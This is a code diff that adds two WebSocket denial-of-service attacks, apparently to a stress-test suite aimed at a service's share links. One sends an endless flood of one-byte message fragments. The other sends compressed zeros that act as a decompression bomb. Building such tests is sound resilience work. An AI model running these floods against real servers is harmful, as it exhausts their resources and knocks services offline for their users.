@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import asyncio
 import time
+import zlib
+from collections.abc import Sequence
 from contextlib import suppress
 from itertools import cycle
 
@@ -31,8 +33,8 @@ DEFINITION_BYTES = 2_560_000
 MAX_STARTS = 2 * 120
 
 
-async def _socket_flood(aim: Aim, unit: bytes, begun: bytes = b"") -> str:
-    flood = Flood(upgrade(aim.thread_id, aim.link), unit, begun, upgraded=True)
+async def _socket_flood(aim: Aim, unit: bytes, begun: bytes = b"", *, more: Sequence[str] = ()) -> str:
+    flood = Flood(upgrade(aim.thread_id, aim.link, more=more), unit, begun, upgraded=True)
     return str(await flood.send(aim.http, sockets=SOCKETS, seconds=aim.seconds))
 
 
@@ -58,6 +60,23 @@ async def ws_texts(aim: Aim) -> str:
 async def ws_large_messages(aim: Aim) -> str:
     """A share link's WebSockets send messages of 4 KiB without end."""
     return await _socket_flood(aim, frame(Opcode.BINARY, b"x" * 4000))
+
+
+@FAMILY.attack()
+async def ws_fragments(aim: Aim) -> str:
+    """A share link's WebSockets send a message in 10,000 fragments of a byte, again and again."""
+    unit = frame(Opcode.TEXT, b"x", final=False) + frame(Opcode.CONT, b"x", final=False) * 9_998
+    return await _socket_flood(aim, unit + frame(Opcode.CONT, b"x"))
+
+
+@FAMILY.attack()
+async def ws_deflated(aim: Aim) -> str:
+    """A share link's WebSockets offer compression, and send compressed zeros without end."""
+    unit = bytearray(frame(Opcode.BINARY, zlib.compress(bytes(4 << 20), 9, wbits=-15)[:3990]))
+    # The bit that marks a compressed message.
+    unit[0] |= 0x40
+    offer = "Sec-WebSocket-Extensions: permessage-deflate; client_max_window_bits"
+    return await _socket_flood(aim, bytes(unit), more=[offer])
 
 
 @FAMILY.attack()
